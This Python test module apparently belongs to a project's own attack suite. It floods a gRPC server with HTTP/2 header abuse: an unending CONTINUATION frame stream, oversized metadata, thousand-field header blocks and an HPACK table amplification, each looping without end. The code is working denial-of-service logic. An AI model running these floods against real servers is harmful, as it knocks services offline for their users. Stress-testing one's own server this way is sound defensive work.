"""Strangers whose headers don't end, are as long as may be, or grow when they are read."""

from collections.abc import AsyncIterator, Callable
from typing import Any

from tests.attack.attack import Target, again_and_again, together
from tests.attack.http2 import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    Connection,
    frame,
    header_block,
    integer,
    request_block,
)
from tests.attack.raw_connections import connected
from tests.attack.stage import Stage

PATH = "/tilth.v1.LobbyService/ListGames"
Pieces = Callable[[Connection], AsyncIterator[bytes]]


async def endless(connection: Connection) -> AsyncIterator[bytes]:
    """One header block without an end."""
    yield frame(HEADERS, 0, stream := connection.next_stream(), request_block(PATH))
    piece = header_block([(f"x-{number:04}", b"x" * 100) for number in range(140)])
    while True:
        yield frame(CONTINUATION, 0, stream, piece[:FRAME_BYTES])


async def long(connection: Connection) -> AsyncIterator[bytes]:
    """Calls with 15,000 bytes of metadata each."""
    block = request_block(PATH, "", ("x-long", b"x" * 15_000))
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block)


async def many(connection: Connection) -> AsyncIterator[bytes]:
    """Calls with a thousand short fields each."""
    block = request_block(PATH, "", *((f"x{number}", b"") for number in range(1000)))
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block)


async def growing(connection: Connection) -> AsyncIterator[bytes]:
    """A field of 4,000 bytes, put into the table of headers and then named by one byte, ten thousand times a call."""
    keep = b"\x40" + integer(1, 7) + b"x" + integer(4000, 7) + b"x" * 4000
    yield frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), request_block(PATH) + keep)
    block = request_block(PATH) + b"\xbe" * 10_000
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block)


KINDS: tuple[Pieces, ...] = (endless, long, many, growing)


class HeaderFlood:
    """Each kind on a connection of its own, opened again when the server has closed it."""

    name = "header-flood"
    finding = ""
    is_raw = True

    async def prepare(self, stage: Stage) -> dict[str, Any]:
        return {}

    async def run(self, target: Target) -> None:
        await together(len(KINDS), lambda each: again_and_again(lambda: self._flood(target, KINDS[each])))

    async def _flood(self, target: Target, pieces: Pieces) -> None:
        async with connected(target) as connection:
            async for piece in pieces(connection):
                await connection.send(piece)
                target.seen[pieces.__name__] += 1
